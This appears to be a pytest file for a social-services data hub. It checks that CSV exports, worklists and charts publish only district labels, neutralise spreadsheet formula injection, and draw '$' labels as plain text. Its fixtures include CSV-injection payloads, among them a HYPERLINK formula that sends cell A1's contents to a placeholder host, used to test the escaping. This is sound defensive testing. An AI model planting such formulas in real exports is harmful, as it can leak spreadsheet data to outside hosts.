"""What the hub publishes for people to open: labels of its lists only, spreadsheet-safe, drawn as text.

The monitoring export goes to the state, the worklists and the report to coordinators, the links
export into spreadsheets. A district stored as free text (by a hub from before the lists were
closed) must not become a row label there; a cell must never run as a formula; a label with ``$``
must never break a chart. All values are synthetic.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import matplotlib
import pytest
from sqlalchemy import select

from kim_hub.core.cells import spreadsheet_safe
from kim_hub.hub_db.models import SourceRecord
from kim_hub.pipeline.links import write_links_csv
from kim_hub.pipeline.reports import REPORT_HTML, collect, write_reports
from kim_hub.pipeline.worklists import chain_gaps
from kim_hub.reporting.charts import bar_chart, heatmap
from kim_hub.reporting.monitoring import monitoring_csv, monitoring_document, parse_period
from tests.support import Hub, report_home

NAME = "Quux Testperson"  # a name typed as a district, stored by an older hub
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Opladen")'
SHIPPED_LABELS = {"Opladen", "Wiesdorf"}  # the districts of tests.support.data.REPORT_ROWS


def plant_district(hub: Hub, source: str, record_id: str, district: str) -> None:
    """Store ``district`` on a record as an older hub would have stored a free-text field."""
    stored = (SourceRecord.source == source) & (SourceRecord.record_id == hub.stored_id(source, record_id))
    with hub.sessions() as session, session.begin():
        record = session.execute(select(SourceRecord).where(stored)).scalar_one()
        record.case_data = {**record.case_data, "district": district}


def published_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_monitoring_export_publishes_labels_of_the_district_list_only(hub: Hub) -> None:
    report_home(hub)
    plant_district(hub, "caritas", "C-3", NAME)
    plant_district(hub, "stadt", "S-1", FORMULA)
    document = monitoring_document(collect(hub.home).records, parse_period("2026-Q4"), dt.datetime(2026, 12, 31, tzinfo=dt.UTC))
    rows = set(document["tables"]["cases_by_district"]["rows"])
    assert rows <= SHIPPED_LABELS | {"unknown", "total"}, rows
    assert "Opladen" in rows and "unknown" in rows  # stored codes come out as their labels
    text = monitoring_csv(document)
    assert NAME not in text and "HYPERLINK" not in text


def test_the_monitoring_csv_neutralises_every_cell_a_spreadsheet_would_run() -> None:
    """Second line of defence: even a label of an operator's list that starts like a formula."""
    labels = [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "Opladen"]
    document = {
        "period": "2026-Q4",
        "tables": {"cases_by_district": {"rows": labels, "columns": ["caritas"], "cells": [["<5"]] * len(labels)}},
    }
    rows = list(csv.reader(io.StringIO(monitoring_csv(document), newline="")))
    assert len(rows) == 1 + len(labels) and all(len(row) == 5 for row in rows)  # a CR starts no row
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    assert f"'{FORMULA}" in cells and "'\n=1+1" in cells and "Opladen" in cells


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\n=1+1"])
def test_spreadsheet_safe_follows_the_owasp_list(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe("\r=1+1") == "'\n=1+1" and spreadsheet_safe("A\r=1+1") == "A\n=1+1"
    assert spreadsheet_safe("Opladen") == "Opladen" and spreadsheet_safe(0.93) == 0.93


def test_the_links_export_neutralises_a_tab_or_carriage_return_in_front() -> None:
    out = io.StringIO()
    write_links_csv(out, [("caritas", "\t=1+1", "P-1", "auto", 0.93), ("awo", "x\r@A1", None, None, None)])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert [row[1] for row in rows] == ["record_id", "'\t=1+1", "x\n@A1"]  # a CR inside starts no row


def test_charts_draw_a_label_with_dollars_as_text_and_leave_matplotlib_as_it_was() -> None:
    before = matplotlib.rcParams["text.parse_math"]
    svg = bar_chart(["$x^$", "Opladen"], [3, 7], "Chain gaps by district")
    assert "$x^$" in svg
    assert "$x^$" in heatmap(["$x^$"], ["$a_$"], [[1]], "overlap")
    assert matplotlib.rcParams["text.parse_math"] == before  # set in a context, never for the process


def test_a_report_with_a_dollar_label_in_the_installations_list_is_written(hub: Hub) -> None:
    """The operator's own list may say anything printable: the report draws it as written."""
    hub.use_districts("code,label,aliases\nopl,$x^$,Opladen\nwie,Wiesdorf,\n")
    report_home(hub)
    report = write_reports(hub.home)
    assert [g["district"] for g in report["chain_gaps"]["by_district"]] == ["$x^$"]
    assert "$x^$" in (hub.home.reports / REPORT_HTML).read_text(encoding="utf-8")


def test_worklists_show_a_district_by_its_label_and_free_text_as_unknown(hub: Hub) -> None:
    report_home(hub)
    gaps = chain_gaps(hub.home, dt.date(2026, 12, 31))
    assert [g.district for g in gaps] == ["Opladen"]  # stored as the code "opladen"
    for source, record_id in (("caritas", "C-1"), ("caritas", "C-2"), ("jobcenter", "962D000001"), ("stadt", "S-1")):
        plant_district(hub, source, record_id, NAME)
    assert [g.district for g in chain_gaps(hub.home, dt.date(2026, 12, 31))] == ["unbekannt"]
